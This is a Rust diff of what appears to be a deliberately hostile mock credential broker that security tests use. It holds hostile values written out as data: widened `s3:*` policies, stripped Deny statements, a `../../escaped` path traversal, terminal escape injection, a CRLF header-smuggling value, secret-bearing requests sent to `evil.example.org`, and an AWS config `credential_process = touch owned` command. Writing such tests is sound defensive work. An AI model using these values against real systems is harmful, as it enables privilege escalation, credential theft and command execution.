@@ -40,24 +40,27 @@ pub fn mint(trick: &str, grant: &Grant, plan: Plan) -> Result<Minted, Error> {
     let ttl = grant.ttl_seconds.max(900);
     let session = match trick {
         "wider" => assume("AudexDemo", &planned.replace("s3:GetObject", "s3:*"), ttl, &grant.session)?,
-        "other-policy" => assume("AudexDemo", &planned.replace("s3:GetObject", "s3:GetObjectAcl"), ttl, &grant.session)?,
-        "narrower" => assume("AudexDemo", &planned.replace("Version", "Id").replace("2012-10-17", "x"), ttl, &grant.session)?,
+        "other-policy" => {
+            assume("AudexDemo", &planned.replace("s3:ListBucket", "s3:GetObject"), ttl, &grant.session)?
+        }
         "two-actions" => {
             let twice = planned.replacen(r#""Action":"#, r#""Action":"*","Action":"#, 1);
             assume("AudexDemo", &twice, ttl, &grant.session)?
         }
         "without-deny" => {
-            let allow = planned.split_once(r#",{"Effect":"Deny""#).map_or(planned.to_owned(), |(allow, _)| format!("{allow}]}}"));
+            let allow = planned
+                .split_once(r#",{"Effect":"Deny""#)
+                .map_or(planned.to_owned(), |(allow, _)| format!("{allow}]}}"));
             assume("AudexDemo", &allow, ttl, &grant.session)?
         }
         "unscoped" => sts::session_token(ttl)?,
         "first-session" => {
-            let down = r#"{"Statement":{"Effect":"Allow","Action":"sts:GetScopedCredentials","Resource":"*"}}"#;
+            let down =
+                r#"{"Statement":{"Effect":"Allow","Action":"sts:GetScopedCredentials","Resource":"*"}}"#;
             assume("AudexDemo", down, ttl, &grant.session)?
         }
         "long" => assume("AudexDemo", planned, 3600, &grant.session)?,
         "role" => assume("Other", planned, ttl, &grant.session)?,
-        "name" => assume("AudexDemo", planned, ttl, "somebody-else")?,
         "fork" => {
             // Parts of two sessions, one of them of another policy.
             let wide = sts::session_token(ttl)?;
@@ -81,19 +84,21 @@ pub fn mint(trick: &str, grant: &Grant, plan: Plan) -> Result<Minted, Error> {
         "expiry" => expires_at -= 600,
         "later" => expires_at += 86_400,
         "undeclared" => variables.push(plain("AWS_PROFILE", "admin".to_owned())),
-        "slot" => variables.push(secret("HOSTILE_TOKEN", identity::token("secret:HOSTILE_SOURCE", &[])?.value)),
+        "slot" => {
+            variables.push(secret("HOSTILE_TOKEN", identity::token("secret:HOSTILE_SOURCE", &[])?.value))
+        }
         _ => {}
     }
     let mut minted = minted(&plan, variables, expires_at);
     match trick {
         "escape" => minted.files.push(file("../../escaped")),
-        "isolation" => minted.files.push(file("aws/config")),
+        "isolation" => minted.files.push(file("aws-config")),
         "control" => {
             minted.notices = vec!["\u{1b}[2J\nerror: forged".to_owned()];
             minted.method = "m\u{1b}c\nforged".to_owned();
             minted.identity = Some("i\u{1b}[2J".repeat(200_000));
         }
-        "long-answer" => minted.notices = vec!["n".repeat(30 << 20); 100],
+        "long-answer" => minted.notices = vec!["n".repeat(20 << 20)],
         _ => {}
     }
     Ok(minted)
@@ -111,7 +116,9 @@ fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> 
     };
     let header = |name: &str, chunk| Header { name: name.to_owned(), value: vec![chunk] };
     let session = || assume("AudexDemo", plan.policy.as_deref().unwrap_or_default(), 900, &grant.session);
-    let key = |name: &str| Auth::Header(HeaderKey { name: name.to_owned(), slot: "secret:HOSTILE_SOURCE".to_owned() });
+    let key = |name: &str| {
+        Auth::Header(HeaderKey { name: name.to_owned(), slot: "secret:HOSTILE_SOURCE".to_owned() })
+    };
     let held;
     match trick {
         "elsewhere" => request.url = "https://evil.example.org/".to_owned(),
@@ -122,10 +129,18 @@ fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> 
         "header" => request.headers = vec![header("Host", Chunk::Plain(b"evil.example.org".to_vec()))],
         "smuggle" => request.headers = vec![header("x-a", Chunk::Plain(b"1\r\nhost: evil".to_vec()))],
         "many-headers" => {
-            request.headers = (0..40_000).map(|n| header(&format!("x-{n}"), Chunk::Plain(vec![b'x']))).collect();
+            request.headers =
+                (0..40_000).map(|n| header(&format!("x-{n}"), Chunk::Plain(vec![b'x']))).collect();
         }
         "key-header" => request.auth = Some(key("Host")),
-        "sign" => request.auth = Some(Auth::Aws(Sigv4 { service: "sts".to_owned(), region: "us-east-1".to_owned() })),
+        "sign" => {
+            request.auth =
+                Some(Auth::Aws(Sigv4 { service: "sts".to_owned(), region: "us-east-1".to_owned() }))
+        }
+        "sign-here" => {
+            request.auth =
+                Some(Auth::Aws(Sigv4 { service: "cloudtrail".to_owned(), region: "us-east-1".to_owned() }))
+        }
         "slot" => request.auth = Some(Auth::Bearer("secret:OTHER_SOURCE".to_owned())),
         "session" => {
             held = session()?.secret_access_key();
@@ -138,7 +153,7 @@ fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> 
         "lift" => request.lift = vec!["/a".to_owned(); 100_000],
         _ => {}
     }
-    let reply = http::send(request)?;
+    let reply = http::send(&request)?;
     Ok(minted(plan, vec![plain("HOSTILE_TOKEN", reply.status.to_string())], clock::now() + 1))
 }
 
@@ -164,5 +179,9 @@ fn secret(name: &str, value: Secret) -> Variable {
 }
 
 fn file(name: &str) -> File {
-    File { name: name.to_owned(), contents: Value::Plain("[default]\ncredential_process = touch owned\n".into()), env: None }
+    File {
+        name: name.to_owned(),
+        contents: Value::Plain("[default]\ncredential_process = touch owned\n".into()),
+        env: None,
+    }
 }
